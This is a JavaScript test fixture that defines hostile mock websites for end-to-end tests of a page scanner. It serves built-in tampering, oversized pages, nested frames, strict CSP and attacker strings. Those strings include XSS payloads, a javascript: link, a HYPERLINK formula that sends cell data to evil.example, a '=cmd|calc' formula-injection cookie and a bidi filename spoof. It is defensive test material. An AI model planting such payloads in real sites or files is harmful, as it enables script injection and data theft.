/**
 * More pages that fight back, for tests/e2e/hostile-pages.test.ts. Each on its own host (a page
 * that hangs its renderer must not stall the others). Payloads that would run set a window flag
 * (`__vigiePwned`) and open a dialog, so a test can tell if anything ran where it must not.
 * - tamper.test: built-ins replaced before anything else runs (Array, JSON, Function.prototype.toString,
 *   Promise, Object.getOwnPropertyDescriptor, RegExp.prototype.test, String.prototype.slice), lying about
 *   every library global.
 * - huge.test: 100,000 elements, 1,600 external scripts, 1,600 images, 2,000 inline scripts.
 * - frames.test: nested frames five deep, sandboxed frames (srcdoc and src), a frame of another site.
 * - sandboxed.test: the top document itself sandboxed by its CSP (opaque origin, no document.cookie).
 * - leave.test: navigates away while the scan re-reads it (the re-read is held back; the test makes
 *   the page leave once that re-read has reached the server, so the change always falls inside the scan).
 * - lockdown.test: `default-src 'none'` by header and by meta tag: nothing may load or connect.
 * - payload.test: attacker strings in the title, generator, headers, cookie names, script URLs and
 *   security.txt: HTML, script, Markdown, formulas, very long values, bidirectional overrides.
 */

const PWN = "window.__vigiePwned=1;alert('pwned')";
export const PAYLOADS = {
  html: `<img src=x onerror="${PWN}" class=vigiepwn>`,
  script: `<script class=vigiepwn>${PWN}</script>`,
  svg: `<svg class=vigiepwn onload="${PWN}">`,
  markdown: '[click](javascript:alert(1)) ![x](https://evil.example/x.png)',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"x")',
  rtl: 'invoice\u202Egpj.exe\u2066',
  long: `${'L'.repeat(20_000)}<b class=vigiepwn>end</b>`,
};

const html = { type: 'text/html; charset=utf-8' };

const doc = ({ title = 'Test', head = '', body = '' } = {}) => `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>${title}</title>${head}</head>
<body>${body}</body></html>
`;

const tamperScript = `
(() => {
  const fake = { value: '<img src=x onerror="${PWN.replace(/"/g, '&quot;')}">', writable: true, enumerable: true, configurable: true };
  Object.getOwnPropertyDescriptor = function () { return fake; };
  Object.getPrototypeOf = function () { throw new Error('no prototypes'); };
  RegExp.prototype.test = function () { return true; };
  RegExp.prototype.exec = function () { throw new Error('no exec'); };
  String.prototype.slice = function () { return '<svg onload=alert(8)>'; };
  Array.prototype.join = function () { return '<img src=x onerror=alert(9)>'; };
  Array.prototype.map = function () { throw new Error('no map'); };
  Array.prototype.forEach = function () { for (;;) {} };
  Array.from = function () { throw new Error('no from'); };
  JSON.stringify = function () { throw new Error('no stringify'); };
  JSON.parse = function () { return { hacked: true }; };
  Function.prototype.toString = function () { throw new Error('no source'); };
  window.Promise = function () { throw new Error('no promises'); };
  window.fetch = function () { throw new Error('no fetch'); };
  window.structuredClone = function () { throw new Error('no clone'); };
  document.querySelectorAll = function () { throw new Error('no query'); };
  window.jQuery = { fn: { jquery: '3.7.1' } };
})();
`;

function hugeBody() {
  const parts = ['<script>try { performance.setResourceTimingBufferSize(10000); } catch {}</script>'];
  parts.push('<div id=bulk>');
  // 100,000 elements: 20,000 groups of a div holding four spans.
  const group = '<div><span>a</span><span>b</span><span>c</span><span>d</span></div>';
  parts.push(group.repeat(20_000));
  parts.push('</div>');
  for (let i = 0; i < 1_600; i++) parts.push(`<script src="/s/${i}.js" async></script><img src="/i/${i}.gif" alt="">`);
  for (let i = 0; i < 2_000; i++) parts.push(`<script>window.__n=${i}</script>`);
  return parts.join('\n');
}

// A 1×1 transparent GIF.
const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

const nestedFrame = (depth) => doc({ title: `Frame ${depth}`, body: depth > 0 ? `<iframe src="/nest?d=${depth - 1}" title="level ${depth}"></iframe>` : '<p>bottom</p>' });

/** @param {string} otherOrigin */
const framesBody = (otherOrigin) => `
<h1>Frames</h1>
<iframe src="/nest?d=5" title="nested"></iframe>
<iframe sandbox srcdoc="<script>parent.document.title='owned'</script><p>inert</p>" title="sandboxed srcdoc"></iframe>
<iframe sandbox="allow-scripts" src="/nest?d=1" title="sandboxed with scripts"></iframe>
<iframe src="${otherOrigin}" title="another site"></iframe>
<iframe src="javascript:'<p>js</p>'" title="javascript url"></iframe>
`;

/** The document's re-read by the scan (any request after the first) is held back 2.5 s. */
function leaveSite() {
  let served = 0;
  return {
    host: 'leave.test',
    http: 'serve',
    routes: {
      '/': {
        ...html,
        delayMs: () => (served++ === 0 ? 0 : 2_500),
        body: () => doc({ title: 'Leaving', body: '<p>Going elsewhere</p>' }),
      },
      '/elsewhere': { ...html, delayMs: () => 600, body: () => doc({ title: 'Elsewhere', body: '<p>Arrived</p>' }) },
      '/.well-known/security.txt': { type: 'text/plain', delayMs: () => 2_500, body: () => 'Contact: mailto:a@leave.test\n' },
    },
  };
}

const securityTxt = [
  `Contact: mailto:security@payload.test?subject=${encodeURIComponent(PAYLOADS.html)}`,
  `Contact: ${PAYLOADS.markdown}`,
  `Contact: https://payload.test/${PAYLOADS.html}`,
  'Expires: 2099-01-01T00:00:00.000Z',
  `Policy: ${PAYLOADS.formula}`,
  `Preferred-Languages: ${PAYLOADS.rtl}`,
  `Acknowledgments: ${PAYLOADS.script}`,
  `Hiring: ${PAYLOADS.long.slice(0, 5_000)}`,
  '',
].join('\n');

/** Header values may only carry Latin-1 without controls: the payloads that fit. */
const latin1 = (s) => s.replace(/[^\t\x20-\x7e\xa0-\xff]/g, '?');

/** @returns {import('./index.mjs').SiteDefinition[]} */
export function hostileExtraSites() {
  return [
    {
      host: 'tamper.test',
      http: 'serve',
      routes: { '/': { ...html, body: () => doc({ title: 'Tampered', head: `<script>${tamperScript}</script>`, body: '<p>Built-ins replaced.</p><script src="/lib.js"></script>' }) }, '/lib.js': { type: 'application/javascript', body: () => '/*! jQuery v1.12.4 | (c) jQuery Foundation */ window.x = 1;' } },
    },
    {
      host: 'huge.test',
      http: 'serve',
      routes: {
        '/': { ...html, body: () => doc({ title: 'Huge', body: hugeBody() }) },
        ...Object.fromEntries(Array.from({ length: 1_600 }, (_, i) => [`/s/${i}.js`, { type: 'application/javascript', body: () => `window.s${i}=1;` }])),
        ...Object.fromEntries(Array.from({ length: 1_600 }, (_, i) => [`/i/${i}.gif`, { type: 'image/gif', body: () => GIF }])),
      },
    },
    {
      host: 'frames.test',
      http: 'serve',
      routes: {
        '/': { ...html, body: (ctx) => doc({ title: 'Frames', body: framesBody(ctx.url('payload.test', ctx.scheme)) }) },
        '/nest': { ...html, body: (ctx) => nestedFrame(Math.min(Number(ctx.query.get('d')) || 0, 6)) },
      },
    },
    {
      host: 'sandboxed.test',
      http: 'serve',
      headers: () => ({ 'Content-Security-Policy': 'sandbox allow-scripts' }),
      routes: { '/': { ...html, headers: () => ({ 'Set-Cookie': 'sid=abcdef; Path=/' }), body: () => doc({ title: 'Sandboxed', body: '<p>Opaque origin.</p><script>try { document.cookie } catch (e) { document.title += " (no cookies)" }</script>' }) } },
    },
    leaveSite(),
    {
      host: 'lockdown.test',
      http: 'serve',
      headers: () => ({ 'Content-Security-Policy': "default-src 'none'; connect-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'", 'X-Content-Type-Options': 'nosniff' }),
      routes: {
        '/': { ...html, body: () => doc({ title: 'Locked down', head: `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; connect-src 'none'">`, body: '<p>Nothing loads here.</p><img src="/x.gif" alt=""><script src="/x.js"></script>' }) },
        '/.well-known/security.txt': { type: 'text/plain; charset=utf-8', body: () => 'Contact: mailto:security@lockdown.test\nExpires: 2099-01-01T00:00:00.000Z\n' },
      },
    },
    {
      host: 'payload.test',
      http: 'serve',
      headers: () => ({
        Server: latin1(`nginx/1.2.3 ${PAYLOADS.html}`),
        'X-Powered-By': latin1(`${PAYLOADS.formula} ${PAYLOADS.markdown}`),
        'X-Generator': latin1(PAYLOADS.script),
        'X-Long': latin1(PAYLOADS.long.slice(0, 8_000)),
        'Set-Cookie': [
          `vigie<svg/onload=alert(1)>=1; Path=/`,
          `=cmd|calc!A0=2; Path=/`,
          `[x](javascript:alert(1))=3; Path=/`,
          `${'c'.repeat(300)}=4; Path=/`,
        ],
      }),
      routes: {
        '/': {
          ...html,
          body: () => doc({
            title: `${PAYLOADS.html}${PAYLOADS.script}${PAYLOADS.markdown} ${PAYLOADS.formula} ${PAYLOADS.rtl} ${PAYLOADS.long}`.replace(/<\/title>/gi, ''),
            head: [
              `<meta name="generator" content="WordPress 4.9 ${PAYLOADS.html.replace(/"/g, '&quot;')} ${PAYLOADS.markdown}">`,
              `<meta name="generator" content="${PAYLOADS.formula.replace(/"/g, '&quot;')}${PAYLOADS.rtl}">`,
              `<meta http-equiv="Set-Cookie" content="${PAYLOADS.svg.replace(/"/g, '&quot;')}=1">`,
            ].join('\n'),
            body: [
              '<h1>Payloads</h1>',
              `<script src="/js/%3Cimg%20src=x%20onerror=alert(1)%3E.js?token=abcdef0123456789abcdef0123456789"></script>`,
              `<script src="/js/jquery-1.12.4.min.js?ver=${encodeURIComponent(PAYLOADS.formula)}"></script>`,
              `<script src="https://cdn.payload.test/${'p'.repeat(3_000)}.js"></script>`,
              `<form action="http://payload.test/login?next=${encodeURIComponent(PAYLOADS.html)}" method="post"><input name=q aria-label=q></form>`,
            ].join('\n'),
          }),
        },
        '/js/jquery-1.12.4.min.js': { type: 'application/javascript', body: () => `/*! jQuery v1.12.4 ${PAYLOADS.html} */ window.jq=1;` },
        '/.well-known/security.txt': { type: 'text/plain; charset=utf-8', body: () => securityTxt },
      },
    },
  ];
}
